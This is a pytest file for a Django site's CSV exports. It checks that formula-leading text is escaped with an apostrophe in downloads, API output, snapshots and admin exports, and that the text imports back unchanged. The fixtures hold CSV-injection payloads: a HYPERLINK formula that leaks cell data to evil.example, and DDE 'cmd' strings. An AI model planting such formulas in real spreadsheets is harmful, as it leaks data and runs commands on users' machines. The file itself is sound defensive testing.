"""S7: every CSV the site writes is safe to open in a spreadsheet. Text that starts with
= + - @, a tab or a carriage return is written with a leading apostrophe (OWASP's advice for CSV
injection), in the page downloads, the API's CSV (both the Python writer and PostgreSQL's COPY),
the snapshots and the admin's export; numbers, negative ones included, are written as they are."""

import csv
import io
import zipfile

import pytest
from django.contrib.auth.models import Group, User
from django.core.management import call_command
from django.urls import reverse

from cooperation.admin.resources import PROJECT_COLUMNS
from cooperation.exports import spreadsheet_safe, spreadsheet_unescape
from cooperation.models import PublicationStatus, Source

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("https://evil.example/?leak="&A2,"Open details")'
LOCATION = "@SUM(1+1)*cmd|' /C calc'!A0"
PUBLISHER = "+cmd|' /C calc'!A0"
SOURCE_TITLE = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def planted(make_project, make_trade, kazakhstan):
    project = make_project(
        slug="csv-formula",
        title=TITLE,
        location_name=LOCATION,
        publication_status=PublicationStatus.PUBLISHED,
    )
    source = Source.objects.create(
        title=SOURCE_TITLE, publisher=PUBLISHER, url="https://example.org/formula"
    )
    figure = make_trade(kazakhstan, year=2031, change_pct=-5.2, source=source)
    return project, figure


def rows_of(text):
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def streamed(response):
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        # A plain number is read as a number, never run: it is written as it is, so that a
        # negative change on the year exported and imported back stays a number.
        ("+1", "+1"),
        ("-1", "-1"),
        ("-3.20", "-3.20"),
        ("-1+1", "'-1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("-1.2.3", "'-1.2.3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
        (-5.2, -5.2),
        (None, None),
    ],
)
def test_only_text_that_a_spreadsheet_would_run_is_escaped(value, written):
    assert spreadsheet_safe(value) == written
    assert spreadsheet_unescape(written) == value  # what an import reads back


def test_the_page_download_escapes_formulas(client, planted):
    rows = rows_of(streamed(client.get("/en/projects/?format=csv")))
    row = next(r for r in rows if r["slug"] == "csv-formula")
    assert row["title"] == "'" + TITLE


def test_the_trade_page_download_escapes_formulas_and_keeps_numbers(client, planted):
    rows = rows_of(streamed(client.get("/en/trade/?format=csv&reporter=CN")))
    planted_rows = [r for r in rows if r["year"] == "2031"]
    assert planted_rows
    for row in planted_rows:
        assert float(row["change_pct"]) == -5.2
        assert row["source_title"] == "'" + SOURCE_TITLE
        assert row["source_publisher"] == "'" + PUBLISHER


def test_the_api_csv_escapes_formulas(client, planted):
    rows = rows_of(streamed(client.get("/api/v1/projects/?format=csv&search=HYPERLINK")))
    assert [row["title"] for row in rows] == ["'" + TITLE]


def test_the_api_trade_csv_escapes_formulas_on_every_database(client, planted):
    """On PostgreSQL this CSV is written by COPY, in SQL."""
    rows = rows_of(streamed(client.get("/api/v1/trade-statistics/?format=csv&year=2031")))
    assert len(rows) == 1
    assert rows[0]["source_title"] == "'" + SOURCE_TITLE
    assert rows[0]["source_publisher"] == "'" + PUBLISHER
    assert float(rows[0]["change_pct"]) == -5.2  # a number, written as it is


def test_the_snapshot_escapes_formulas(planted, tmp_path, settings):
    settings.SNAPSHOT_ROOT = tmp_path
    call_command("export_snapshot", verbosity=0)
    (archive_path,) = tmp_path.glob("tracker-*.zip")
    archive = zipfile.ZipFile(archive_path)
    projects = rows_of(archive.read("projects.csv").decode())
    assert next(r for r in projects if r["slug"] == "csv-formula")["title"] == "'" + TITLE
    sources = rows_of(archive.read("sources.csv").decode())
    assert "'" + SOURCE_TITLE in {row["title"] for row in sources}


def test_the_admin_export_escapes_formulas(client, planted):
    user = User.objects.create_user("desk", password="a-long-test-password", is_staff=True)
    user.groups.add(Group.objects.get(name="Editors"))
    client.force_login(user)
    response = client.post(
        reverse("admin:cooperation_project_export"),
        {"resource": "0", "format": "0", **{f"projectresource_{c}": "on" for c in PROJECT_COLUMNS}},
    )
    rows = rows_of(response.content.decode("utf-8-sig"))
    row = next(r for r in rows if r["slug"] == "csv-formula")
    assert row["title_en"] == "'" + TITLE
    assert row["location_name_en"] == "'" + LOCATION


def test_an_escaped_export_imports_back_unchanged(planted):
    """The apostrophe is the file's, not the record's: an editor who exports and imports the
    file back keeps the text as it was."""
    from cooperation.admin.resources import ProjectResource

    project, _figure = planted
    resource = ProjectResource()
    exported = resource.export(queryset=resource.get_queryset().filter(pk=project.pk))
    assert exported.dict[0]["title_en"] == "'" + TITLE
    result = ProjectResource().import_data(exported, raise_errors=False)
    assert not result.has_errors() and not result.has_validation_errors()
    project.refresh_from_db()
    assert (project.title_en, project.location_name_en) == (TITLE, LOCATION)
